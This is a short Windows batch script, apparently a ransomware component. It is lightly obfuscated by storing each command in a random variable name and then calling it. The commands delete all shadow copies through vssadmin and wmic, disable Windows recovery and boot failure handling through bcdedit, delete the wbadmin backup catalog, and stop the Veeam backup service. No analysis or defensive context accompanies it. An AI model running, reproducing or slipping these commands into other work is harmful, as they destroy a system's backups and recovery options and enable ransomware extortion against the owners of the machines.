REM init 3904 v0
@echo off
set gveg=vssadmin delete shadows /all /quiet
call %gveg%
@echo off
set bwqu=wmic shadowcopy delete
call %bwqu%
@echo off
set jihu=bcdedit /set {default} recoveryenabled no
call %jihu%
@echo off
set zdna=bcdedit /set {default} bootstatuspolicy ignoreallfailures
call %zdna%
@echo off
set mqgo=wbadmin delete catalog -quiet
call %mqgo%
@echo off
set zfjt=net stop "Veeam Backup Catalog Data Service" /y
call %zfjt%
